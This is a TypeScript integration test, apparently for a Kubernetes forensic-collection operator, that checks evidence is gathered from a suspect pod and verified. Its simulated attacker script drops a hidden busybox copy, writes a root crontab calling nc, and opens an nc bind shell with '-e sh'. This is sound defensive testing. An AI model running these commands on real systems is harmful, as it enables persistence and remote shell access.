import { CoreV1Api } from '@kubernetes/client-node';
import { createConnection, createServer, type Server, type Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { S3EvidenceStore } from '../../../src/evidence/s3-store.js';
import { verifyCase } from '../../../src/evidence/verify.js';
import { createRegistry } from '../../../src/observability/metrics.js';
import { installCrds } from '../../testenv/crds.js';
import { startCluster, type Cluster } from '../../testenv/kube.js';
import { startMinio, type Minio } from '../../testenv/minio.js';
import { RealNode, buildImages, nodeUnavailable, type Image } from '../../testenv/node.js';
import { NodePods } from '../../testenv/node-pods.js';
import { startCaseController } from '../../testenv/operator.js';
import { OPERATOR_NAMESPACE, operatorKubeConfig } from '../../testenv/rbac.js';
import { waitFor } from '../../testenv/wait.js';
import { Workloads, type CaseView } from '../../testenv/workload.js';
import { createSigningKeySecret } from '../collection/helpers.js';

// Opt-in until it has passed several runs in a row (see docs/adr/0012-real-node.md).
const unavailable =
  nodeUnavailable() ??
  (process.env.AMBER_NODE_COLLECTION_TEST
    ? undefined
    : 'not yet proven reliable on the real node; set AMBER_NODE_COLLECTION_TEST=1 to run it');
if (unavailable) console.warn(`SKIPPED test/integration/node/collection.test.ts: ${unavailable}`);

type SealedView = CaseView & { status?: CaseView['status'] & { artifacts?: { name: string }[] } };

/**
 * The collection Job for real (issue 11, item 3): the operator contains a suspect pod on the real
 * node and runs `amber collect` as a Job there, from the image built from the Dockerfile; the
 * collector reads the containerd-managed container from the host side and streams to MinIO.
 */
describe.skipIf(unavailable)('the collection Job on a real node', () => {
  let cluster: Cluster;
  let minio: Minio;
  let node: RealNode;
  let pods: NodePods;
  let w: Workloads;
  let amber: Image;
  let forward: Forward;
  let publicKeyPem: string;
  let operator: Awaited<ReturnType<typeof startCaseController>>;

  beforeAll(async () => {
    amber = buildImages('amber').amber!;
    [cluster, minio] = await Promise.all([
      startCluster({ realNode: true, controllerManager: true }),
      startMinio(),
    ]);
    node = await RealNode.start(cluster, [amber]);
    // MinIO listens on 127.0.0.1; the Job's pod reaches it at the node's own address.
    forward = await forwardToLoopback(node.address, Number(new URL(minio.endpoint).port));
    const admin = cluster.kubeConfig();
    await installCrds(admin);
    pods = new NodePods(admin);
    w = new Workloads(admin);
    await w.namespace('shop');
    const opKc = await operatorKubeConfig(cluster);
    ({ publicKeyPem } = await createSigningKeySecret(admin));
    await admin.makeApiClient(CoreV1Api).createNamespacedSecret({
      namespace: OPERATOR_NAMESPACE,
      body: {
        metadata: { name: 'amber-s3-credentials' },
        stringData: { AWS_ACCESS_KEY_ID: minio.accessKey, AWS_SECRET_ACCESS_KEY: minio.secretKey },
      },
    });
    operator = await startCaseController(opKc, {
      collection: {
        mode: 'job',
        image: amber.ref,
        pollMs: 1_000,
        // Not about the seal's wait for the Job credentials' expiry (900 s at least): tested in
        // test/integration/collection/job.test.ts.
        jobCredentials: { sealAfterExpiry: false },
        evidence: { credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey } },
      },
    });
  }, 20 * 60_000);
  afterAll(async () => {
    await operator?.stop();
    await forward?.close();
    await node?.stop();
    await minio?.stop();
    await cluster?.stop();
  }, 120_000);

  it('contains the suspect, runs the Job on the node, seals what it did; verify passes', async () => {
    const peer = await pods.run('shop', 'peer', node.images.busybox!.ref, [
      'nc',
      '-lk',
      '-p',
      '8080',
      '-e',
      'sleep',
      '3600',
    ]);
    const attacker = [
      // busybox runs the applet its file is named after: the dropped copy is a "sleep".
      'mkdir /tmp/.x && cp /bin/busybox /tmp/.x/sleep && /tmp/.x/sleep 3600 &',
      'sleep 0.5; rm -rf /tmp/.x',
      'echo "nameserver 10.9.9.9" > /etc/evil.conf',
      'mkdir -p /var/spool/cron/crontabs && echo "* * * * * nc 10.244.0.250 9" > /var/spool/cron/crontabs/root',
      'nc -ll -p 4444 -e sh &',
      // A connection held open: nc ends when its stdin does, and a background job's is /dev/null.
      `sleep 3600 | nc ${peer.status!.podIP} 8080 &`,
      'echo attacker ready',
      'exec sleep 3600',
    ].join('\n');
    await pods.run('shop', 'suspect', node.images.busybox!.ref, ['sh', '-c', attacker]);
    await waitFor(
      'the attacker done',
      () => pods.logs('shop', 'suspect'),
      (l) => l.includes('attacker ready'),
    );

    const started = Date.now();
    await w.createCase('case-node', {
      target: { namespace: 'shop', pod: 'suspect' },
      reason: 'test: dropper on a real node',
      alert: {
        rule: 'Drop and execute new binary in container',
        priority: 'Critical',
        time: new Date().toISOString(),
        source: 'syscall',
      },
      evidence: {
        store: { type: 's3', bucket: minio.bucket, endpoint: forward.endpoint, prefix: 'amber/' },
        retention: { mode: 'GOVERNANCE', days: 1 },
      },
    });
    let kase: SealedView;
    try {
      kase = (await w.waitForPhase('case-node', 'Sealed', 180_000)) as SealedView;
    } finally {
      const jobPods = await pods.core.listNamespacedPod({ namespace: OPERATOR_NAMESPACE });
      for (const p of jobPods.items) {
        console.log(
          `collection pod ${p.metadata?.name}: ${JSON.stringify(p.status?.containerStatuses?.[0]?.state)}`,
        );
        console.log(
          await pods.core
            .readNamespacedPodLog({ namespace: OPERATOR_NAMESPACE, name: p.metadata!.name! })
            .catch(String),
        );
      }
      console.log(JSON.stringify((await w.getCase('case-node')).status, null, 1).slice(0, 6000));
    }
    console.log(
      `job collection on a real node: ForensicCase created -> Sealed in ${Date.now() - started} ms`,
    );

    const collected = kase.status?.conditions?.find((x) => x.type === 'EvidenceCollected');
    expect(collected).toMatchObject({ status: 'True', reason: 'Collected' });
    const store = new S3EvidenceStore({
      client: minio.client(),
      bucket: minio.bucket,
      prefix: 'amber',
      registry: createRegistry(),
    });
    const report = await verifyCase(store.caseLocation('case-node'), {
      publicKeyPem,
      s3: {
        endpoint: minio.endpoint,
        region: minio.region,
        forcePathStyle: true,
        credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
      },
    });
    expect(report.ok).toBe(true);
    const names = (kase.status?.artifacts ?? []).map((a) => a.name);
    const dir = names
      .find((n) => n.startsWith('containers/'))!
      .split('/')
      .slice(0, 2)
      .join('/');
    const read = async (name: string) => {
      const chunks: Buffer[] = [];
      for await (const chunk of await store.get('case-node', name)) chunks.push(Buffer.from(chunk as Buffer));
      return Buffer.concat(chunks).toString('utf8');
    };
    console.log(
      `artifacts:\n${names.join('\n')}\ncollector report: ${(await read(`${dir}/report.json`)).slice(0, 3000)}`,
    );

    // Every attacker action is in the evidence, read from the host side of a containerd container.
    const diff = await read(`${dir}/filesystem/diff.json`);
    expect(diff).toContain('/etc/evil.conf');
    expect(diff).toContain('/var/spool/cron/crontabs/root');
    const processes = JSON.parse(await read(`${dir}/processes.json`)) as {
      processes: { exe?: { path: string; deleted: boolean; artifact?: string } }[];
    };
    const dropped = processes.processes.find((p) => p.exe?.path === '/tmp/.x/sleep');
    expect(dropped?.exe).toMatchObject({ deleted: true, artifact: expect.stringMatching(/exe\.bin$/) });
    const network = await read(`${dir}/network.json`);
    expect(network).toContain('4444');
    expect(network).toContain(peer.status!.podIP!);
    // The container's log, read through the API server and the kubelet.
    expect(await read('orchestrator/logs/main.current.log')).toContain('attacker ready');
  });
});

interface Forward {
  endpoint: string;
  close(): Promise<void>;
}

/** A TCP pass-through from `address` (this machine's own) to a listener on 127.0.0.1. */
async function forwardToLoopback(address: string, port: number): Promise<Forward> {
  const sockets = new Set<Socket>();
  const server: Server = createServer((client) => {
    const upstream = createConnection({ host: '127.0.0.1', port });
    for (const s of [client, upstream]) {
      sockets.add(s);
      s.on('close', () => sockets.delete(s));
      s.on('error', () => {
        client.destroy();
        upstream.destroy();
      });
    }
    client.pipe(upstream).pipe(client);
  });
  await new Promise<void>((resolve) => server.listen(0, address, resolve));
  const { port: listening } = server.address() as { port: number };
  return {
    endpoint: `http://${address}:${listening}`,
    async close() {
      for (const s of sockets) s.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}
